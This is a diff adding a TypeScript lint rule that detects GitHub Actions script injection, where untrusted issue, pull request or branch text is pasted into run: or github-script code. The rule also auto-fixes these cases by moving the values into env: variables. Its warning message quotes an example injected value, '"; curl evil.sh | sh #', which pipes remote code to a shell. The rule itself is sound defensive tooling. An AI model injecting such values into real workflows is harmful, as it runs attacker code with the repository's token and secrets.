@@ -1,0 +1,328 @@
+import { contextPaths, type ExpressionSpan, findExpressions, parseExpression } from '../../engine/expressions';
+import type { TextEdit } from '../../engine/finding';
+import { actionName } from '../../engine/model/oidc';
+import type { Step } from '../../engine/model/workflow';
+import { defineRule } from '../../engine/rule';
+import { scalarText, type ScalarText } from '../../engine/scalarText';
+import { appendToMap } from '../../engine/yamlEdit';
+import { type Field, isMap, isScalar, mapFields, type Scalar, scalarToString, spanOf, type YamlDoc, type YamlFile } from '../../engine/yamlFile';
+
+/**
+ * Context paths (lower case, `*` for any index) whose text the author of an issue, comment, pull
+ * request, commit or branch chooses. Names, logins, SHAs and numbers are not free text and do not count.
+ */
+const UNTRUSTED: RegExp[] = [
+  /^github\.event\.(issue|pull_request|discussion)\.(title|body)$/,
+  /^github\.event\.(comment|review|review_comment)\.body$/,
+  /^github\.event\.pages\.[^.]+\.page_name$/,
+  /^github\.event\.(commits\.[^.]+|head_commit)\.(message|(author|committer)\.(email|name))$/,
+  /^github\.event\.pull_request\.head\.(ref|label|repo\.default_branch)$/,
+  /^github\.event\.workflow_run\.(head_branch|display_title|head_commit\.(message|(author|committer)\.(email|name))|pull_requests\.[^.]+\.head\.ref)$/,
+  /^github\.head_ref$/,
+  // Whole objects holding such text, usually passed through toJSON().
+  /^github\.event(\.(issue|pull_request|discussion|comment|review|review_comment|head_commit|commits|workflow_run|pages))?$/,
+];
+
+function isUntrustedContext(path: string): boolean {
+  return UNTRUSTED.some((pattern) => pattern.test(path));
+}
+
+const SHELLS = /^(bash|sh)\b/;
+
+export default defineRule({
+  id: 'gha/script-injection',
+  severity: 'error',
+  dora: ['change-failure-rate'],
+  fixable: 'suggestion',
+  messages: {
+    run: (expression: string, path: string) =>
+      `\`${expression}\` is pasted into the script before it runs, and \`${path}\` is text anyone opening an issue, pull request or branch chooses: a value like \`"; curl evil.sh | sh #\` runs as a command. Pass it through \`env:\` and use the variable.`,
+    githubScript: (expression: string, path: string) =>
+      `\`${expression}\` is pasted into the JavaScript before it runs, and \`${path}\` is attacker-chosen text: a quote in it ends the string and the rest runs as code. Pass it through \`env:\` and read \`process.env\`.`,
+  },
+  docs: {
+    summary: 'Never interpolate untrusted event text (`${{ github.event.issue.title }}` …) into a script.',
+    rationale:
+      '`${{ }}` expressions are expanded into the text of a `run:` script (or a github-script `script:`) before the shell or Node sees it, so the value becomes code, not data. Titles, bodies and comments of issues and pull requests, branch names, commit messages and author names are all chosen by whoever opens them, including people with no access to the repository. One crafted title can then run commands with the workflow\'s token and secrets. An environment variable is passed as data and is never parsed as code. Contexts that are not free text (`github.sha`, `github.run_id`, `github.ref`, numbers, logins) are not flagged, nor are expressions in `env:` or `with:`.',
+    symptom:
+      'An issue or pull request with an odd title (backticks, `$( )`, quotes) makes a triage or labelling workflow fail, or silently run extra commands; secrets or the GITHUB_TOKEN are exfiltrated.',
+    fix: 'Move each such expression into the step\'s `env:` and use the variable, quoted, in the script (`"$PR_TITLE"`; `process.env.PR_TITLE` in github-script). The quick-fix does this, choosing names that do not clash with existing variables; it is offered for bash/sh scripts and github-script, not for PowerShell or Python steps.',
+    bad: `on: issues
+jobs:
+  triage:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "New issue - \${{ github.event.issue.title }}"
+`,
+    good: `on: issues
+jobs:
+  triage:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "New issue - $TITLE (#\${{ github.event.issue.number }})"
+        env:
+          TITLE: \${{ github.event.issue.title }}
+`,
+  },
+  visit: {
+    step(step, ctx) {
+      const script = scriptOf(step, ctx.file);
+      if (!script) return;
+      const found = untrustedExpressions(script.value);
+      if (found.length === 0) return;
+      const edits = script.text && script.lang !== 'other' ? fixEdits(ctx.file, ctx.doc, step, script, found) : undefined;
+      for (const { expression, path } of found) {
+        const span = script.text?.sourceSpan(expression.start, expression.end) ?? script.span;
+        ctx.report({
+          span,
+          message: script.kind,
+          args: [script.value.slice(expression.start, expression.end), path],
+          // One fix moves every expression of the step at once, whichever finding it is invoked from.
+          ...(edits ? { fix: { title: 'Pass untrusted values through `env:`', edits } } : {}),
+        });
+      }
+    },
+  },
+});
+
+interface Script {
+  kind: 'run' | 'githubScript';
+  lang: 'shell' | 'js' | 'other';
+  value: string;
+  text: ScalarText | undefined;
+  span: { start: number; end: number };
+  /** The YAML style of the scalar holding the script: replacements are escaped for it. */
+  style: Scalar['type'];
+}
+
+function scriptOf(step: Step, file: YamlFile): Script | undefined {
+  if (step.run) {
+    const shell = scalarToString(step.fields.get('shell')?.value) ?? '';
+    const runsOn = scalarToString(step.job.fields.get('runs-on')?.value) ?? '';
+    const lang = SHELLS.test(shell) || (shell === '' && !/windows/i.test(runsOn)) ? 'shell' : 'other';
+    return { kind: 'run', lang, value: step.run.value, text: step.run.text, span: step.run.span, style: step.run.node.type };
+  }
+  if (actionName(step.uses) === 'actions/github-script') {
+    const node = step.inputs.get('script')?.value;
+    if (!isScalar(node) || typeof node.value !== 'string') return undefined;
+    return { kind: 'githubScript', lang: 'js', value: node.value, text: scalarText(file.text, node), span: spanOf(node), style: node.type };
+  }
+  return undefined;
+}
+
+interface Found {
+  expression: ExpressionSpan;
+  path: string;
+}
+
+function untrustedExpressions(script: string): Found[] {
+  const found: Found[] = [];
+  for (const expression of findExpressions(script)) {
+    const parsed = parseExpression(expression.inner);
+    if (!parsed.ok) continue;
+    const untrusted = contextPaths(parsed.ast).find(({ path }) => isUntrustedContext(path));
+    if (untrusted) found.push({ expression, path: untrusted.path });
+  }
+  return found;
+}
+
+/** `github.event.pull_request.head.ref` → `PR_HEAD_REF`, `github.event.issue.title` → `ISSUE_TITLE`. */
+function envName(path: string): string {
+  const segments = path
+    .split('.')
+    .filter((segment) => segment !== 'github' && segment !== 'event' && segment !== '*' && !/^\d+$/.test(segment))
+    .map((segment) => (segment === 'pull_request' ? 'pr' : segment));
+  const name = segments.slice(-3).join('_').toUpperCase().replace(/[^A-Z0-9_]/g, '_');
+  return name === '' ? 'GITHUB_EVENT' : name;
+}
+
+function envEntries(yaml: YamlDoc, fields: Map<string, Field>): string[] {
+  const env = fields.get('env')?.value;
+  return isMap(env) ? [...mapFields(yaml, env).keys()] : [];
+}
+
+function fixEdits(file: YamlFile, yaml: YamlDoc, step: Step, script: Script, found: Found[]): TextEdit[] | undefined {
+  const envNode = step.fields.get('env')?.value;
+  if (step.fields.has('env') && !isMap(envNode)) return undefined;
+  const taken = new Set([
+    ...envEntries(yaml, step.fields),
+    ...envEntries(yaml, step.job.fields),
+    ...envEntries(yaml, step.job.workflow.fields),
+    ...[...script.value.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)/g)].map((match) => match[1]!),
+    ...[...script.value.matchAll(/process\.env\.([A-Za-z_][A-Za-z0-9_]*)/g)].map((match) => match[1]!),
+  ]);
+  const names = new Map<string, string>(); // expression source → variable
+  const edits: TextEdit[] = [];
+  const contexts = script.lang === 'shell' ? shellContexts(script.value) : jsContexts(script.value);
+  for (const { expression, path } of found) {
+    const source = expression.inner.trim();
+    let name = names.get(source);
+    if (!name) {
+      const base = envName(path);
+      name = base;
+      for (let n = 2; taken.has(name); n++) name = `${base}_${n}`;
+      taken.add(name);
+      names.set(source, name);
+    }
+    const replacement = reference(name, script.value, expression, contexts, script.lang);
+    const span = replacement && script.text!.sourceSpan(replacement.start, replacement.end);
+    const newText = replacement && inYaml(script, replacement);
+    if (!span || newText === undefined) return undefined;
+    edits.push({ ...span, newText });
+  }
+  const lines = [...names].map(([source, name]) => `${name}: ${yamlValue(`\${{ ${source} }}`)}`);
+  const envEdit = isMap(envNode) ? appendToMap(file, envNode, lines.join('\n')) : appendToMap(file, step.node, ['env:', ...lines.map((line) => `  ${line}`)].join('\n'));
+  if (!envEdit) return undefined;
+  return [...edits, envEdit];
+}
+
+/** The replacement as it must be written inside the YAML scalar; undefined when a plain scalar would change meaning. */
+function inYaml(script: Script, replacement: { start: number; text: string }): string | undefined {
+  switch (script.style) {
+    case 'QUOTE_DOUBLE':
+      return replacement.text.replace(/[\\"]/g, (ch) => `\\${ch}`);
+    case 'QUOTE_SINGLE':
+      return replacement.text.replace(/'/g, "''");
+    case 'PLAIN':
+      // A plain scalar may not start with a quote: it would turn into a quoted one.
+      return replacement.start === 0 && /^['"]/.test(replacement.text) ? undefined : replacement.text;
+    default:
+      return replacement.text;
+  }
+}
+
+/** A plain YAML scalar unless the text would be read as something else. */
+function yamlValue(text: string): string {
+  return /: |\s#|:$/.test(text) ? `'${text.replace(/'/g, "''")}'` : text;
+}
+
+type Quoting = 'none' | 'single' | 'double' | 'heredoc' | 'heredoc-literal' | 'template';
+
+/**
+ * What replaces the expression (script offsets and text). A string that holds nothing but the
+ * expression is replaced whole: `'${{ x }}'` → `"$X"`, JavaScript `"${{ x }}"` → `process.env.X`.
+ */
+function reference(
+  name: string,
+  script: string,
+  { start, end }: ExpressionSpan,
+  contexts: (offset: number) => Quoting,
+  lang: Script['lang'],
+): { start: number; end: number; text: string } | undefined {
+  const quoting = contexts(start);
+  const quote = quoting === 'single' ? "'" : quoting === 'double' ? '"' : quoting === 'template' ? '`' : undefined;
+  const opensHere = quote !== undefined && script[start - 1] === quote && contexts(start - 1) !== quoting;
+  const closesHere = quote !== undefined && script[end] === quote;
+  if (lang === 'js') {
+    // toJSON() gave a JavaScript literal; the variable holds its JSON text.
+    const variable = /^\s*tojson\(/i.test(script.slice(start + 3, end - 2)) ? `JSON.parse(process.env.${name})` : `process.env.${name}`;
+    if (opensHere && closesHere) return { start: start - 1, end: end + 1, text: variable };
+    if (quoting === 'template') return { start, end, text: `\${${variable}}` };
+    if (quote) return { start, end, text: `${quote} + ${variable} + ${quote}` };
+    return { start, end, text: variable };
+  }
+  const bare = /[A-Za-z0-9_]/.test(script[end] ?? '') ? `\${${name}}` : `$${name}`;
+  switch (quoting) {
+    case 'none':
+      return { start, end, text: `"$${name}"` };
+    case 'double':
+    case 'heredoc':
+      return { start, end, text: bare };
+    case 'single': {
+      // Close the single quotes around a double-quoted variable, dropping quotes that would be left empty.
+      const from = opensHere ? start - 1 : start;
+      const to = closesHere ? end + 1 : end;
+      return { start: from, end: to, text: `${opensHere ? '' : "'"}"$${name}"${closesHere ? '' : "'"}` };
+    }
+    default:
+      return undefined; // a quoted heredoc never expands variables
+  }
+}
+
+/** For each offset of a shell script, how it is quoted there (single, double, heredoc body, none). */
+function shellContexts(script: string): (offset: number) => Quoting {
+  const states = new Array<Quoting>(script.length + 1).fill('none');
+  let state: Quoting = 'none';
+  const pending: { tag: string; literal: boolean; strip: boolean }[] = [];
+  let i = 0;
+  while (i < script.length) {
+    const ch = script[i]!;
+    states[i] = state;
+    if (state === 'single') {
+      if (ch === "'") state = 'none';
+      i++;
+      continue;
+    }
+    if (state === 'double') {
+      if (ch === '\\') {
+        states[i + 1] = state;
+        i += 2;
+        continue;
+      }
+      if (ch === '"') state = 'none';
+      i++;
+      continue;
+    }
+    if (ch === '\\') {
+      states[i + 1] = state;
+      i += 2;
+      continue;
+    }
+    if (ch === "'") state = 'single';
+    else if (ch === '"') state = 'double';
+    else if (ch === '#' && (i === 0 || /\s/.test(script[i - 1]!))) {
+      while (i < script.length && script[i] !== '\n') states[i++] = state;
+      continue;
+    } else if (ch === '<' && script[i + 1] === '<' && script[i + 2] !== '<') {
+      const match = /^<<(-?)\s*(['"]?)([A-Za-z0-9_.-]+)\2/.exec(script.slice(i));
+      if (match) {
+        pending.push({ tag: match[3]!, literal: match[2] !== '', strip: match[1] === '-' });
+        for (let k = 0; k < match[0].length; k++) states[i + k] = state;
+        i += match[0].length;
+        continue;
+      }
+    } else if (ch === '\n' && pending.length > 0) {
+      i++;
+      for (const heredoc of pending) {
+        while (i < script.length) {
+          const end = script.indexOf('\n', i);
+          const stop = end < 0 ? script.length : end;
+          const line = script.slice(i, stop);
+          const done = (heredoc.strip ? line.replace(/^\t+/, '') : line).trim() === heredoc.tag;
+          for (let k = i; k <= stop; k++) states[k] = done ? 'none' : heredoc.literal ? 'heredoc-literal' : 'heredoc';
+          i = stop + 1;
+          if (done) break;
+        }
+      }
+      pending.length = 0;
+      continue;
+    }
+    i++;
+  }
+  return (offset) => states[offset] ?? 'none';
+}
+
+/** For each offset of a JavaScript snippet, whether it is inside a string or template literal. */
+function jsContexts(script: string): (offset: number) => Quoting {
+  const states = new Array<Quoting>(script.length + 1).fill('none');
+  let quote: string | undefined;
+  for (let i = 0; i < script.length; i++) {
+    const ch = script[i]!;
+    states[i] = quote === undefined ? 'none' : quote === "'" ? 'single' : quote === '"' ? 'double' : 'template';
+    if (quote !== undefined) {
+      if (ch === '\\') {
+        states[++i] = states[i - 1]!;
+        continue;
+      }
+      // `${{ }}` inside a template literal is GitHub's, not a JavaScript substitution.
+      if (ch === quote) quote = undefined;
+      continue;
+    }
+    if (ch === '/' && script[i + 1] === '/') {
+      while (i < script.length && script[i] !== '\n') states[i++] = 'none';
+      continue;
+    }
+    if (ch === "'" || ch === '"' || ch === '`') quote = ch;
+  }
+  return (offset) => states[offset] ?? 'none';
+}
